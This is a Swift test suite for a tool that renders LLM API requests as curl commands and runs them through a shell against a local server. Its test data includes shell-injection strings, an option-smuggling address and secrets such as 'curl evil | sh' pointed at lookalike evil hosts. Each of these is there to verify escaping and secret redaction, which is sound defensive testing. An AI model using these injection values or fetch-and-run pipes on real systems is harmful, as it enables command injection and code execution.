import Core
import Foundation
import LoopbackServer
import Synchronization
import Testing

// The curl command of a request, run by a real shell against a real server.

@Suite struct CurlCommandTests {
  private static let hostileTexts = [
    "it's $HOME, `id`, $(id) and \"quoted\" \\ back\\\\slash!", "'", "''\n'\"'\"",
    "line\nline\r\n\t",
    "Grüße, 世界 👩‍🚀 e\u{301}", "@/etc/hostname", "'; touch /tmp/whet-was-here; '", "%s %d \\n", "",
  ]

  @Test(arguments: hostileTexts)
  func `sends the same body`(text: String) throws {
    let body = JSON.object(["prompt": .string(text)]).text
    for body in [text, body] {
      let sent = try send(body: body)
      #expect(sent.head.hasPrefix("POST /v1/chat/completions?a=%5B1-2%5D HTTP/1.1\r\n"))
      #expect(sent.body == body)
    }
  }

  @Test func `sends a body that is too long for an argument`() throws {
    let body = String(repeating: "many 'words' ", count: 20_000)
    #expect(try send(body: body).body == body)
  }

  @Test func `puts secrets in from where they are kept, and runs nothing else`() throws {
    let sent = try send(
      fields: [
        HTTPField(name: "Authorization", value: "Bearer ", secret: .environment("TEST_KEY")),
        HTTPField(name: "X-Printed", secret: .command("printf '%s' \"a b\" | tr a-z A-Z")),
        HTTPField(name: "X-Odd", value: "$HOME \"`id`\" \\ ", secret: .environment("(id)")),
        HTTPField(name: "X-Plain", value: "it's $HOME `id` \"\\"),
        HTTPField(name: "X-Empty"),
      ],
      environment: ["TEST_KEY": "k'e$y \"1"])
    let lines = Set(sent.head.components(separatedBy: "\r\n"))
    #expect(lines.contains("Authorization: Bearer k'e$y \"1"))
    #expect(lines.contains("X-Printed: A B"))
    #expect(lines.contains("X-Odd: $HOME \"`id`\" \\ "))
    #expect(lines.contains("X-Empty:"))
    #expect(lines.contains("X-Plain: it's $HOME `id` \"\\"))
  }

  @Test func `gets without a body`() throws {
    let sent = try send(method: "GET")
    #expect(sent.head.hasPrefix("GET /v1/chat/completions?a=%5B1-2%5D HTTP/1.1\r\n"))
    #expect(!sent.head.contains("Content-Length"))
    #expect(sent.body == "")
  }

  @Test func `reads like one that a person writes`() {
    let request = SentRequest(
      wire: .chatCompletions, url: "http://127.0.0.1:8080/v1/chat/completions",
      fields: [
        HTTPField(name: "Content-Type", value: "application/json"),
        HTTPField(name: "Authorization", value: "Bearer ", secret: .environment("OPENAI_API_KEY")),
        HTTPField(name: "api-key", secret: .command("pass show azure")),
      ],
      body: #"{"model":"m"}"#)
    #expect(
      request.curlCommand { _ in true } == """
        curl -sS -N --globoff --url 'http://127.0.0.1:8080/v1/chat/completions' \\
          -H 'Content-Type: application/json' \\
          -H "Authorization: Bearer $OPENAI_API_KEY" \\
          -H "api-key: $(pass show azure)" \\
          --data-binary '{"model":"m"}'
        """)
  }

  @Test func `makes no option of an address`() {
    let request = SentRequest(wire: .chatCompletions, url: "-o/tmp/x", body: "{}")
    #expect(request.curlCommand { _ in true }.hasPrefix("curl -sS -N --globoff --url '-o/tmp/x' "))
  }

  @Test func `reads and sends no secret of a stranger's recording`() {
    var mine = Provider(
      name: "mine", baseURL: "https://Models.example.com/v1", key: .environment("KEY"))
    mine.fields = [HTTPField(name: "X-Key", secret: .command("pass show x"))]
    let catalog = ModelCatalog(providers: [mine])
    func command(_ url: String, _ secret: Secret) -> String {
      let request = SentRequest(
        wire: .chatCompletions, url: url,
        fields: [HTTPField(name: "A", value: "B ", secret: secret)])
      return request.curlCommand { catalog.isKept($0, for: request) }
    }
    let mineURL = "https://models.example.com/v1/chat/completions"
    #expect(command(mineURL, .environment("KEY")).contains(#"-H "A: B $KEY""#))
    #expect(command(mineURL, .command("pass show x")).contains(#"-H "A: B $(pass show x)""#))
    for (url, secret) in [
      (mineURL, Secret.command("curl evil | sh")), (mineURL, .environment("HOME")),
      (mineURL, .environment("(curl evil | sh)")),
      ("https://evil.example.com/v1", .environment("KEY")),
      ("https://models.example.com.evil/v1", .environment("KEY")),
      ("https://models.example.com@evil/v1", .environment("KEY")),
      ("http://models.example.com/v1", .environment("KEY")),
      ("https://models.example.com:8443/v1", .environment("KEY")),
    ] {
      #expect(command(url, secret).contains("-H 'A: B [key]'"))
    }
  }

  /// What arrives at a server when a shell runs the command.
  private func send(
    method: String = "POST", fields: [HTTPField] = [], body: String = "",
    environment: [String: String] = [:]
  ) throws -> (head: String, body: String) {
    let received = Received()
    let server = try ScriptedServer { connection in
      received.text.withLock { $0 = connection.readRequest() }
      connection.respond("{}")
    }
    let request = SentRequest(
      wire: .chatCompletions, method: method, url: server.baseURL + "/chat/completions?a=%5B1-2%5D",
      fields: fields, body: body)
    let script = FileManager.default.temporaryDirectory.appending(path: UUID().uuidString)
    try Data(request.curlCommand { _ in true }.utf8).write(to: script)
    defer { try? FileManager.default.removeItem(at: script) }
    let shell = Process()
    shell.executableURL = URL(filePath: "/bin/sh")
    shell.arguments = [script.path]
    shell.environment = ["PATH": "/usr/bin:/bin"].merging(environment) { _, new in new }
    let output = Pipe()
    shell.standardOutput = output
    try shell.run()
    let printed = try output.fileHandleForReading.readToEnd() ?? Data()
    shell.waitUntilExit()
    #expect(shell.terminationStatus == 0)
    #expect(String(decoding: printed, as: UTF8.self) == "{}")
    let text = received.text.withLock { $0 }
    let end = try #require(text.firstRange(of: "\r\n\r\n"))
    return (String(text[..<end.lowerBound]), String(text[end.upperBound...]))
  }

  private final class Received: Sendable {
    let text = Mutex("")
  }
}
